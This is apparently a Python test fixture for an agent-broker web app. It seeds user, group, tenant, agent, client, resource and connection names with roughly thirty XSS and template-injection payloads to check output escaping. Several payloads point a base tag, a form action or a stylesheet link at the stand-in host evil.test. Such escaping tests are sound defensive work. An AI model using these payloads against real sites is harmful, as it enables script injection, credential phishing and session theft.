"""Names that try to become markup, and a world in which everything that has a name is called so."""

from sqlalchemy import select

from broker.agents.models import Agent, Client, Resource
from broker.demo.people import Person
from broker.demo.world import World
from broker.kernel.versions import bump
from broker.tenants.models import Connection, Tenant

# Each would call alert(), or leave an element with the attribute data-ran.
PAYLOADS = (
    "<script data-ran>alert(1)</script>",
    '"><script data-ran>alert(1)</script>',
    "'><script data-ran>alert(1)</script>",
    "</title><script data-ran>alert(1)</script>",
    "</textarea><script data-ran>alert(1)</script>",
    "</style><script data-ran>alert(1)</script>",
    "--><script data-ran>alert(1)</script><!--",
    "<img data-ran src=x onerror=alert(1)>",
    '"><img data-ran src=x onerror=alert(1)>',
    '" onmouseover=alert(1) autofocus onfocus=alert(1) data-ran x="',
    "' onfocus=alert(1) autofocus data-ran x='",
    "<svg data-ran onload=alert(1)>",
    "</svg><svg data-ran onload=alert(1)>",
    "<svg><animate data-ran onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe data-ran srcdoc='<script>alert(1)</script>'></iframe>",
    "<details data-ran open ontoggle=alert(1)>",
    "<a data-ran href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//<b data-ran>",
    "<base data-ran href=//evil.test/>",
    "<meta data-ran http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form data-ran action=//evil.test/><button>Allow</button>",
    "<link data-ran rel=stylesheet href=//evil.test/x.css>",
    "{{ 7*'7' }}<b data-ran>{% raw %}",
    "&lt;script data-ran&gt;alert(1)&lt;/script&gt;<b data-ran>",
    "\u202e<b data-ran>txet\u202c",
    "<math data-ran><mtext><img src=x onerror=alert(1)></mtext></math>",
    "%3Cscript data-ran%3Ealert(1)%3C/script%3E<b data-ran>",
    "]]><script data-ran>alert(1)</script>",
    "${alert(1)}<b data-ran>",
)
EVERY_KIND = "</title><img data-ran src=x onerror=alert(1)>'\"`<svg data-ran onload=alert(1)>{{ 7*'7' }}"


def hire_hostile_people(world: World) -> list[str]:
    """A person for each payload at the OpenID Connect provider, called so and in a group of that name."""
    people = world.providers.okta.people
    for index, payload in enumerate(PAYLOADS):
        key = f"hostile-{index}"
        people[key] = Person(
            key, payload, "Doe", f"h{index}@acme.test", f"00u1hostile{index}",
            [payload, "agents-support"], "Called like an attack",
        )  # fmt: skip
    aiko = world.providers.google.people["aiko"]
    aiko.given_name, aiko.groups = EVERY_KIND, [*aiko.groups, EVERY_KIND]
    return [f"hostile-{index}" for index in range(len(PAYLOADS))]


def rename_everything(world: World, name: str = EVERY_KIND) -> None:
    """Give the tenant, agents, owners, clients, resources, scopes and connections that name."""
    rt, tenant_id = world.broker.runtime, world.broker.tenant.id
    with rt.database.unscoped(write=True) as session:
        session.get_one(Tenant, tenant_id).name = name
    with rt.database.write(tenant_id) as session:
        for agent in session.scalars(select(Agent)):
            agent.name = f"{agent.slug} {name}"[:100]
            agent.description, agent.owner_name = name, name
        for client in session.scalars(select(Client)):
            client.name = name
        for resource in session.scalars(select(Resource)):
            resource.name = name
            resource.scopes = {
                scope: {**about, "description": name} for scope, about in resource.scopes.items()
            }
        for connection in session.scalars(select(Connection)):
            connection.name = f"{connection.slug} {name}"
        bump(session.connection(), tenant_id)
